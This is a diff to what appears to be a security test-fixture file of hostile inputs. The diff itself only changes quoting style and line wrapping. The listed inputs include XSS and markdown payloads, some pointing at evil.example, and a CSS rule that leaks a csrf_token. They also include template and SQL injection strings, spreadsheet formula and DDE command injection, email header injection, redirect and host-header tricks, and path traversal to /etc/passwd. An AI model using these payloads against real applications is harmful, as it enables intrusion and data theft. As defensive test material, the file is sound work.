@@ -30,13 +30,13 @@ SCRIPTS = (
     f"<object data=\"data:text/html,<script>alert('{MARK}')</script>\"></object>",
     f"<details open ontoggle=alert('{MARK}')>",
     f"<math href=\"javascript:alert('{MARK}')\">x</math>",
-    f"<form action=\"https://evil.example/{MARK}\"><button>go</button></form>",
-    f"<base href=\"https://evil.example/{MARK}/\">",
-    f"<meta http-equiv=refresh content=\"0;url=https://evil.example/{MARK}\">",
-    f"<link rel=stylesheet href=\"https://evil.example/{MARK}.css\">",
+    f'<form action="https://evil.example/{MARK}"><button>go</button></form>',
+    f'<base href="https://evil.example/{MARK}/">',
+    f'<meta http-equiv=refresh content="0;url=https://evil.example/{MARK}">',
+    f'<link rel=stylesheet href="https://evil.example/{MARK}.css">',
     f"<style>@import url(https://evil.example/{MARK});</style>",
     f"<style>input[name=csrf_token]{{background:url(https://evil.example/{MARK})}}</style>",
-    f"<img src=\"https://evil.example/{MARK}.png\">",
+    f'<img src="https://evil.example/{MARK}.png">',
     f"<a href=\"javascript:alert('{MARK}')\">click</a>",
     f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
     f"<!--><img src=x onerror=alert('{MARK}')>-->",
@@ -52,14 +52,14 @@ MARKDOWN = (
     f"[x]: javascript:alert('{MARK}')\n[x]",
     f"<javascript:alert('{MARK}')>",
     f"```\n<script>alert('{MARK}')</script>\n```",
-    f"[a](https://evil.example/{MARK}\" onmouseover=\"alert(1))",
+    f'[a](https://evil.example/{MARK}" onmouseover="alert(1))',
     "> " * 60 + "deep",
     "*" * 4000 + "a",
     "[" * 2000 + "](" * 2000,
 )
 TEMPLATES = ("{{7*7}}", "{% for x in range(3) %}x{% endfor %}", "${7*7}", "#{7*7}", "%(name)s %(x)d %s %n", "{0.__class__}", "{{ config }}", "__${T(java)}__")
 DATABASE = ("' OR '1'='1", "'; DROP TABLE persons; --", "1) OR 1=1 --", "%", "_", "\\", "%' ESCAPE '", "NULL", "*/ UNION SELECT 1 /*")
-FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=HYPERLINK(\"https://evil.example\")", "\uff1d1+1", " =cmd|' /C calc'!A0")
+FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", '=HYPERLINK("https://evil.example")', "\uff1d1+1", " =cmd|' /C calc'!A0")
 LINES = (
     "one\r\nBcc: evil@evil.example",
     "one\nX-Injected: yes",
@@ -87,7 +87,15 @@ REDIRECTS = (
     "//\u2100evil.example", "//evil\u3002example", "/people\\@evil.example", "x" * 5000,
 )  # fmt: skip
 
-HOSTS = ("evil.example", "127.0.0.1:8000.evil.example", "evil.example:8000", "127.0.0.1@evil.example", "localhost.evil.example", "", "127.0.0.1:8000, evil.example")
+HOSTS = (
+    "evil.example",
+    "127.0.0.1:8000.evil.example",
+    "evil.example:8000",
+    "127.0.0.1@evil.example",
+    "localhost.evil.example",
+    "",
+    "127.0.0.1:8000, evil.example",
+)
 
 NAMES = (
     "../../etc/passwd.txt", "..\\..\\windows\\system.txt", "/etc/passwd.txt", "C:\\boot.txt", "a/b/c.txt", "....//....//x.txt", ".txt", "..txt", "a\x00.txt",
